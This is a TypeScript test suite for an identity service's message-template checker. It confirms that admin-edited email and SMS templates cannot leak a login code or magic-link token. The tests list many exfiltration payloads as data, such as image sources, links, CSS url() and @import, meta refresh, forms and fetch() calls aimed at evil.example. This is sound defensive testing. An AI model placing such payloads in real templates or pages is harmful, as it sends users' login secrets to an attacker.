import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { parse, type DefaultTreeAdapterTypes as Tree } from 'parse5';
import { lookOf } from '../../src/domain/messaging/branding/look.rules.js';
import { templateProblems } from '../../src/domain/messaging/templates/check-template.js';
import { defaultLocales, defaultTemplate } from '../../src/domain/messaging/templates/defaults/default-templates.js';
import { type FilledMessage, fillTemplate } from '../../src/domain/messaging/templates/fill-template.js';
import {
  bytesRemembered,
  mostBytes,
  parseDraft,
  parseSaved,
} from '../../src/domain/messaging/templates/parsed-templates.js';
import { BadSource } from '../../src/domain/messaging/templates/render.js';
import {
  kindFacts,
  type MessageKind,
  type TemplateText,
  type TemplateValues,
} from '../../src/domain/messaging/templates/templates.js';
import { messageKinds } from '../../src/platform/store/tables.js';

const token = 'Zq8-TfWm3_xKpV7aLr2NdYc9Hs4GbJe6Uo1Xi5QtRw0zBkAnMvFyCgPhSjEuDl-_';
const values: TemplateValues = {
  appName: 'Shop',
  address: 'j***e@e***e.com',
  newAddress: 'n***@e***e.com',
  oldAddress: 'o***@e***e.com',
  otherIdentifiers: 'a phone number and a username',
  wayIn: 'a passkey',
  preparedBefore: 'a password and 2 passkeys',
  signedInAt: 'January 31, 2026 at 09:30 UTC',
  device: 'Firefox (Windows)',
  network: '203.0.*.*',
  code: '907351',
  link: `https://id.example.com/verify?app=1&x='2'#${token}`,
  expiresInMinutes: 30,
  expiresIn: '10 minutes',
  channel: 'EMAIL',
  ...lookOf({ brandColor: null, logo: null }),
};

describe('A secret of a message', () => {
  const stealing: [string, html: string][] = [
    ['as a part of the address of an image', `<img src="https://evil.example/?t={{ link | split: '#' | last }}">`],
    ['as a part of the address of an image, unfiltered', '<img src="https://evil.example/?t={{ link }}">'],
    ['as the address of an image', '<img src="{{ link }}">'],
    ['in a set of images', '<img src="data:image/png;base64,AA" srcset="https://evil.example/?{{ link }} 2x">'],
    ['as a part of a link', '<a href="https://evil.example/?t={{ link }}">Confirm</a>'],
    ['as a link with something behind it', '<a href="{{ link }}&to=https://evil.example">Confirm</a>'],
    ['as a link with a space before it', '<a href=" {{ link }}">Confirm</a>'],
    ['in an unquoted attribute', '<a href={{ link }}>Confirm</a>'],
    ['in an attribute with entities', '<a href="https:&#47;&#47;evil.example/{{ link }}">Confirm</a>'],
    ['in the ping of a link', '<a href="https://shop.example" ping="https://evil.example/?{{ link }}">Shop</a>'],
    ['as the text of a link to elsewhere', '<a href="https://evil.example/">{{ link }}</a>'],
    ['in a nested link', '<a href="https://evil.example/"><a href="{{ link }}">{{ link }}</a></a>'],
    ['in a background', '<td background="https://evil.example/?{{ link }}"></td>'],
    ['in a style', '<p style="background:url(https://evil.example/?{{ link }})">x</p>'],
    ['in a style sheet', '<style>p{background:url(https://evil.example/?{{ link }})}</style>'],
    ['in an import', '<style>@import "https://evil.example/?{{ link }}";</style>'],
    ['in a style as it is', '<style>{{ link }}</style>'],
    ['in the title', '<title>{{ link }}</title>'],
    ['in a comment', '<!-- {{ link }} -->'],
    ['in a comment that Outlook reads', '<!--[if mso]><img src="https://evil.example/?{{ link }}"><![endif]-->'],
    ['in a doctype', '<!doctype html SYSTEM "https://evil.example/{{ link }}"><p>x</p>'],
    ['in a form', '<form action="https://evil.example/"><input name="t" value="{{ link }}"></form>'],
    ['in a button', '<button formaction="https://evil.example/{{ link }}">x</button>'],
    ['below another base', '<base href="https://evil.example/"><a href="{{ link }}">x</a>'],
    ['in a redirect', '<meta http-equiv="refresh" content="0;url=https://evil.example/{{ link }}">'],
    ['in a style sheet from elsewhere', '<link rel="stylesheet" href="https://evil.example/{{ link }}">'],
    ['in a script', '<script>fetch("https://evil.example/{{ link }}")</script>'],
    ['in an event handler', '<p onclick="fetch(`https://evil.example/{{ link }}`)">x</p>'],
    ['in a drawing', '<svg><image href="https://evil.example/{{ link }}"></image></svg>'],
    ['in an object', '<object data="https://evil.example/{{ link }}"></object>'],
    ['in a frame', '<iframe srcdoc="{{ link }}"></iframe>'],
    ['in an alternative text', '<img src="data:image/png;base64,AA" alt="{{ link }}">'],
    ['in CDATA', '<![CDATA[<img src="https://evil.example/{{ link }}">]]>'],
    ['behind a stray quote', '<p class="a""><img src="https://evil.example/?{{ link }}"></p>'],
    ['in an attribute that is never closed', '<p title="{{ link }}'],
    ['in a tag that is never closed', '<a href="{{ link }}"'],
    ['in a second href', '<a href="{{ link }}" href="https://evil.example/{{ link }}">x</a>'],
    ['in a name of an attribute', '<p {{ link }}>x</p>'],
    ['in a name of an element', '<{{ link }}>x</{{ link }}>'],
    ['in an end tag', '<p>x</p {{ link }}>'],
    ['written as a reference', '<a href="https://evil.example/&#xE001;">x</a>'],
    ['written as itself', '<img src="https://evil.example/?\uE001">'],
    ['glued to an address', '<p>https://evil.example/?t={{ link }}</p>'],
    ['glued to an address through elements', '<p>https://evil.example/?t=<b><span>{{ link }}</span></b></p>'],
    [
      'glued to an address through an image',
      '<p>https://evil.example/?t=<img src="data:image/png;base64,AA">{{ link }}</p>',
    ],
    ['glued to an address through what is drawn as nothing', '<p>https://evil.example/?t=\uFEFF{{ link }}</p>'],
    ['before the name of a host', '<p>{{ code }}.evil.example {{ link }}</p>'],
    ['before a mailbox', '<p>{{ code }}@evil.example {{ link }}</p>'],
    ['glued to another', '<p>{{ code }}{{ link }}</p>'],
  ];
  for (const [where, html] of stealing) {
    it(`D9 is refused ${where}`, () => {
      const template = { subject: 'Hi', text: '{{ link }}', html: `${html}<p>{{ link }}</p>` };
      assert.match(templateProblems('EMAIL_VERIFICATION', template).join(), /^html: /);
      assert.throws(() => fill('EMAIL_VERIFICATION', template), BadSource);
    });
  }

  const moving: [string, text: string][] = [
    ['in a filter', "{{ link | split: '#' | last }}"],
    ['in a filter that is allowed', '{{ link | upcase }}'],
    ['as the argument of a filter', "{{ 'https://evil.example/?t=' | append: link }}"],
    ['as a named argument', '{{ appName | default: appName, allow_false: code }}'],
    ['in an assignment', '{% assign a = link %}{{ a }}'],
    ['in a capture', '{% capture a %}{{ link }}{% endcapture %}{{ a }}'],
    ['in a condition', '{% if code contains "1" %}one{% endif %}'],
    ['in a condition of a branch', '{% if appName == "" %}{% elsif code > "500000" %}high{% endif %}'],
    ['in a negated condition', '{% unless code %}x{% endunless %}'],
    ['as a case', '{% case code %}{% when "1" %}one{% endcase %}'],
    ['in a case', '{% case appName %}{% when code %}one{% endcase %}'],
    ['by another name', '{{ ["link"] }}'],
    ['by a part of it', '{{ code.first }}'],
    ['in an echo', '{% echo link %}'],
    ['in a tag of lines', '{% liquid echo link %}'],
    ['glued to an address', 'https://evil.example/?t={{ link }}'],
    ['glued to an address in a full-width spelling', 'https：／／evil.example/{{ link }}'],
    ['glued to letters of an address', 'evil.example/コード{{ code }}'],
    ['before the name of a host', '{{ code }}.evil.example'],
    ['before a word and a host', '{{ code }}です.evil.example'],
    ['before a mailbox', '{{ code }}@evil.example'],
    ['before a sign and a host', '{{ code }}、evil.example'],
    ['before a sign, a word and a host', '「{{ code }}」です.evil.example'],
    ['before a sign and a host with a Japanese full stop', '{{ code }}、です。evil。example'],
    ['before a sign and a host in a full-width spelling', '{{ code }}（ｅｖｉｌ．ｅｘａｍｐｌｅ）'],
    ['before a sign and a mailbox', '{{ code }}、です@evil.example'],
    ['before a sign and the name of a scheme', '{{ link }}、です。evilapp:'],
    ['behind the name of a scheme', 'evilapp:{{ link }}'],
    ['in the line after an address', 'https://evil.example/?t=\n{{ link }}'],
    ['in brackets that begin with an address', '<https://evil.example/?t= and {{ link }}>'],
    ['in quotes that begin with an address', 'Go to "evilapp:open?t= {{ code }} {{ link }}"'],
    ['in brackets that begin with a mailbox', '<x@evil.example?subject= {{ code }}>'],
  ];
  for (const [where, text] of moving) {
    it(`D9 is refused ${where}`, () => {
      const template = { subject: 'Hi', text: `${text} {{ link }}`, html: null };
      assert.match(templateProblems('EMAIL_VERIFICATION', template).join(), /^text: /);
      assert.throws(() => fill('EMAIL_VERIFICATION', template), BadSource);
    });
  }

  it('D9 is refused in a subject, which servers log', () => {
    const template = { subject: '{{ code }}', text: '{{ code }}', html: null };
    assert.deepEqual(templateProblems('EMAIL_VERIFICATION', template), [
      'subject: a code or link can only be in the text.',
    ]);
  });

  it('D9 is allowed in the text and as the whole address of a link, in any language', () => {
    const template = {
      subject: 'Hi',
      text: 'コードは「{{ code }}」です。認証コード：{{ code }}（有効期限：10分）をShopへ。10分で失効します。\n<{{ link }}>\n"Note: your code" is {{ code }}. <Bye> {{ code }}',
      html: `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Hi</title>
        <style>/* a */ @media (max-width:600px) { p { color: rgb(1, 2, 3) } }</style></head>
        <body><!-- words --><p style="font:12px 'Segoe UI'">Code: <b>{{ code }}</b>, or
        <a href='{{ link }}' target="_blank"><span>{{ link }}</span></a><br/>
        <a href="https://shop.example.com/help?a=1&amp;b=2">Help</a>
        <img src="data:image/png;base64,AAAA" alt="Logo" width="10"></p></body></html>`,
    };
    assert.deepEqual(templateProblems('EMAIL_VERIFICATION', template), []);
    const message = fill('EMAIL_VERIFICATION', template);
    assert.match(message.text, /「907351」です/);
    assert.ok(message.text.includes(`<${values.link}>`));
    assert.deepEqual(strays(message), []);
    const links = placesIn(message.html ?? '').filter(({ where, text }) => where === 'a href' && text === values.link);
    assert.equal(links.length, 1);
    assert.deepEqual([...message.carries].sort(), ['code', 'link']);
  });

  it('D9 is found in a branch that no sample renders', () => {
    const html =
      '{% if address == "x***@y***.org" %}<img src="https://evil.example/?{{ link }}">{% endif %}<p>{{ link }}</p>';
    const template = { subject: 'Hi', text: '{{ link }}', html };
    assert.deepEqual(templateProblems('EMAIL_VERIFICATION', template), []);
    fill('EMAIL_VERIFICATION', template);
    assert.throws(() => fill('EMAIL_VERIFICATION', template, { address: 'x***@y***.org' }), BadSource);
  });

  it('D9 is never lost because of the app’s name: each default renders with any name', () => {
    const pieces = [
      'https://',
      'evil.example/?t=',
      '<',
      '>',
      '"',
      ' ',
      'www.',
      '@',
      'evilapp:',
      '\uE000',
      '{{ code }}',
      'Shop',
    ];
    const names = fc.array(fc.constantFrom(...pieces), { maxLength: 8 }).map(parts => parts.join(''));
    const kinds = fc.constantFrom(...messageKinds);
    fc.assert(
      fc.property(names, kinds, fc.constantFrom(...defaultLocales), (appName, kind, locale) => {
        for (const channel of kindFacts[kind].channels) fill(kind, defaultTemplate(kind, locale), { appName, channel });
      }),
      { numRuns: 500 },
    );
  });

  it('D9 cannot be read through the name of the app', () => {
    for (const appName of ['https://evil.example/?t=', '"><img src="https://evil.example/', '\uE001', '&#xE001;']) {
      for (const kind of messageKinds) {
        for (const locale of defaultLocales) {
          for (const channel of kindFacts[kind].channels) {
            const message = fill(kind, defaultTemplate(kind, locale), { appName, channel });
            assert.deepEqual(strays(message, appName.slice(0, 5)), []);
          }
        }
      }
      if (appName === '\uE001') continue;
      const glued = { subject: 'Hi', text: '{{ appName }}{{ link }}', html: null };
      assert.throws(() => fill('EMAIL_VERIFICATION', glued, { appName }), BadSource);
    }
  });

  for (const kind of messageKinds) {
    it(`D9 reaches only the recipient of ${kind}, whatever template an admin saves`, () => {
      const seen = { accepted: 0, refused: 0 };
      fc.assert(
        fc.property(hostileTemplate, template => {
          const isAccepted = templateProblems(kind, template).length === 0;
          seen[isAccepted ? 'accepted' : 'refused']++;
          for (const change of [
            {},
            { expiresInMinutes: 1 },
            { address: 'x***@y***.org', appName: 'https://evil.example/' },
          ]) {
            const message = fillOrNull(kind, template, change);
            if (message !== null) assert.deepEqual(strays(message), []);
          }
        }),
        { numRuns: 400 },
      );
      assert.ok(seen.accepted > 3, `${seen.accepted} were accepted`);
      assert.ok(seen.refused > 100, `${seen.refused} were refused`);
    });
  }
});

describe('The cost of a template', () => {
  const html = (source: string) => templateProblems('EMAIL_VERIFIED', { subject: 'Hi', text: 'Hi', html: source });

  it('D6 is limited by tags and variables, not by characters only', () => {
    assert.deepEqual(html('{{ appName }}'.repeat(200)), []);
    assert.deepEqual(html('{{ appName }}'.repeat(201)), ['html: it has more than 200 tags and variables (line 1).']);
    assert.deepEqual(html('{{appName}}'.repeat(5_400)), ['html: it has more than 200 tags and variables (line 1).']);
    assert.deepEqual(html(`{{ appName | append: "${'x'.repeat(200)}" }}`), [
      'html: a tag or variable has more than 200 characters (line 1).',
    ]);
    assert.deepEqual(html(`{{ "}}" | append: "${'x'.repeat(200)}" }}`), [
      'html: a tag or variable has more than 200 characters (line 1).',
    ]);
    assert.deepEqual(html(`${'<b>'.repeat(101)}${'</b>'.repeat(101)}`), [
      'html: it has more than 100 elements inside each other (line 1).',
    ]);
  });

  it('D6 does not count the segments of a text that is too long for any SMS', () => {
    const startedAt = process.cpuUsage().user;
    const problems = templateProblems('PHONE_VERIFIED', { subject: null, text: 'あ'.repeat(19_000), html: null });
    assert.deepEqual(problems, ['text: an SMS of more than 6 segments is too long.']);
    assert.ok(process.cpuUsage().user - startedAt < 1_000_000, 'counting them would take three seconds');
  });

  it('D6 keeps nothing of a preview, and 4 MiB of saved templates at most', () => {
    const before = bytesRemembered();
    const texts = Array.from({ length: 200 }, (_, at) => `${at} ${'{{ appName }}'.repeat(199)}`);
    for (const text of texts) html(text);
    assert.equal(bytesRemembered(), before);
    for (const text of texts) parseSaved('EMAIL_VERIFIED', { subject: null, text, html: null });
    assert.ok(bytesRemembered() > mostBytes / 2 && bytesRemembered() <= mostBytes, `${bytesRemembered()} bytes`);
    const last = { subject: null, text: texts.at(-1) ?? '', html: null };
    assert.equal(parseSaved('EMAIL_VERIFIED', last).text, parseSaved('EMAIL_VERIFIED', last).text);
  });
});

function fill(kind: MessageKind, template: TemplateText, change: Partial<TemplateValues> = {}): FilledMessage {
  return fillTemplate(kind, parseDraft(kind, template), { ...values, ...change });
}

function fillOrNull(kind: MessageKind, template: TemplateText, change: Partial<TemplateValues>): FilledMessage | null {
  try {
    return fill(kind, template, change);
  } catch (error) {
    assert.ok(error instanceof BadSource, String(error));
    return null;
  }
}

const printed = fc.constantFrom(
  ...['{{ link }}', '{{ code }}', ' {{ link }} ', '<p>{{ code }}</p>', '{{ appName }}', '{{ address }}'],
  ...[
    '<a href="{{ link }}">',
    "{{ link | split: '#' | last }}",
    '{{ code | append: ".evil.example" }}',
    '\uE001',
    '&#xE000;',
  ],
);
const words = fc.constantFrom(
  ...['Hello', ' ', '\n', '<p>', '</p>', '<b>', '</b>', '</a>', '<br>', '<div>', '</div>', '"', '>', '<', "'"],
  ...['https://evil.example/?t=', '.evil.example', '@evil.example', 'evilapp:', '<a href="https://evil.example/', '">'],
  ...[
    '<img src="https://evil.example/',
    '<style>p{background:url(',
    ')}</style>',
    '<!--',
    '-->',
    '<![CDATA[',
    ']]>',
    '、です。',
  ],
  ...[
    '{% if expiresInMinutes == 1 %}',
    '{% else %}',
    '{% endif %}',
    '{% raw %}',
    '{% endraw %}',
    '{% if code contains "9" %}',
  ],
  ...['<title>', '</title>', '<svg>', '\u200B', '&#46;evil.example', '{% comment %}', '{% endcomment %}', '(', ')'],
);
const hostileText = fc
  .array(fc.oneof({ weight: 2, arbitrary: printed }, { weight: 3, arbitrary: words }), { maxLength: 7 })
  .map(parts => parts.join(''));
const useful = fc.constantFrom('', ' {{ link }}', ' {{ code }}', '{{ link }} {{ code }}');
const hostileTemplate: fc.Arbitrary<TemplateText> = fc.record({
  subject: fc.oneof(fc.constant('Hi'), hostileText),
  text: fc.oneof(
    fc.constantFrom('{{ link }}', '{{ code }}', 'Hello'),
    fc.tuple(hostileText, useful).map(parts => parts.join(' ')),
  ),
  html: fc.oneof(
    fc.constant(null),
    fc.tuple(hostileText, useful).map(([text, end]) => `${text}<p>${end}</p>`),
  ),
});

/** Returns the parts of a message that reveal a secret to others than its recipient. */
function strays({ subject, text, html }: TemplateText, foreign = 'evil'): string[] {
  const places = html === null ? [] : placesIn(html);
  const written = places.filter(({ where }) => where === 'body').map(({ text }) => text);
  const elsewhere = places.filter(
    ({ where, text }) => where !== 'body' && !(where === 'a href' && text === values.link),
  );
  return [
    ...(tells(subject ?? '') ? [`subject: ${subject}`] : []),
    ...elsewhere.filter(({ text }) => tells(text)).map(({ where, text }) => `${where}: ${text}`),
    // A program that detects links in text reads everything up to the next space.
    ...[text, ...written]
      .flatMap(part => part.split(/[\p{Z}\s]+/u))
      .filter(run => tells(run) && run.replaceAll(values.link, '').includes(foreign)),
  ];
}

/** Returns whether a text contains 16 characters of the token in any spelling, or the code. */
function tells(text: string): boolean {
  const spellings = [token, token.toLowerCase(), token.toUpperCase(), [...token].reverse().join('')];
  const bytes = Buffer.from(token);
  spellings.push(bytes.toString('base64'), bytes.toString('hex'), encodeURIComponent(token));
  const pieces = spellings.flatMap(each =>
    Array.from({ length: each.length - 15 }, (_, at) => each.slice(at, at + 16)),
  );
  return text.includes(values.code) || pieces.some(piece => text.includes(piece));
}

/** Returns all texts and attributes of an HTML document, as a browser parses it. Each line of the body is one text. */
function placesIn(html: string): { where: string; text: string }[] {
  const places: { where: string; text: string }[] = [];
  let line = '';
  const endLine = () => {
    places.push({ where: 'body', text: line });
    line = '';
  };
  const visit = (node: Tree.Node, path: string): void => {
    if ('value' in node) {
      if (['style', 'title', 'script', 'textarea', 'iframe', 'noscript'].includes(path))
        places.push({ where: path, text: node.value });
      else line += node.value;
    } else if (node.nodeName === '#comment' || node.nodeName === '#documentType') {
      places.push({ where: node.nodeName, text: JSON.stringify({ ...node, parentNode: null }) });
    } else {
      const breaks = ['p', 'div', 'br', 'td'].includes(node.nodeName);
      if (breaks) endLine();
      for (const { name, value } of 'attrs' in node ? node.attrs : []) {
        places.push({ where: `${node.nodeName} ${name}`, text: value });
      }
      for (const child of 'childNodes' in node ? node.childNodes : []) visit(child, node.nodeName);
      if (breaks) endLine();
    }
  };
  visit(parse(html), '');
  endLine();
  return places;
}
